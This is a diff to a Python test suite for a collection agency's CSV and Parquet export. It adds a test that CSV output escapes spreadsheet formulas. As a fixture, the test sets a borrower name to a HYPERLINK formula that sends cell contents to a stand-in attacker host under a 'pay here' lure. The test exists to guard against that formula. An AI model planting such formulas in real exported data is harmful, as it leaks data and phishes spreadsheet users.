@@ -61,10 +61,23 @@ def test_the_csv_export_lists_the_agencys_live_placements_masked(agencies: Agenc
     assert tuple(rows[0]) == exchange.EXPORT_COLUMNS
     cases = agencies.book.cases
     assert [int(r["case_id"]) for r in rows] == [cases[0].pk, cases[1].pk]
-    assert rows[0]["loan_refs"] == "L-0" and rows[0]["phones_masked"] == "+86138****0001"
+    assert rows[0]["loan_refs"] == "L-0"
+    assert rows[0]["phones_masked"] == "'+86138****0001"  # a leading + is a formula to Excel
     assert valid_ric() not in data and "+8613800000001" not in data
     assert rows[0]["national_id_masked"].startswith("110101")
     assert rows[0]["total_due_minor"] == "90000" and rows[0]["placed_on"]
+
+
+def test_the_csv_export_does_not_let_a_spreadsheet_run_a_name(agencies: Agencies) -> None:
+    borrower = agencies.book.cases[0].borrower
+    borrower.name = '=HYPERLINK("http://evil.example/?"&A1,"pay here")'
+    borrower.save()
+    data = exchange.export_placements(agencies.acme, agencies.book.today, "csv").decode()
+    rows = list(csv.DictReader(io.StringIO(data)))
+    assert rows[0]["borrower_name"] == "'" + borrower.name
+    assert rows[0]["total_due_minor"] == "90000"  # numbers are left alone
+    parquet = exchange.export_placements(agencies.acme, agencies.book.today, "parquet")
+    assert pl.read_parquet(io.BytesIO(parquet))["borrower_name"][0] == borrower.name  # typed data
 
 
 def test_the_parquet_export_has_typed_columns(agencies: Agencies) -> None:
